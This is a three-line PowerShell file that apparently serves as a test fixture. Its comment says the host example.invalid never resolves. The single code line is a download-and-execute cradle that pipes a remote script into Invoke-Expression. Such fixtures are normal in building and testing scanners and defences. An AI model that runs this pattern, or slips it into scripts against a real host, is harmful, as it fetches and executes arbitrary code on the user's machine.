#!/usr/bin/env pwsh
# Fixture: example.invalid never resolves (RFC 6761, section 6.4), so that this fetches and runs nothing.
IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/script.ps1')
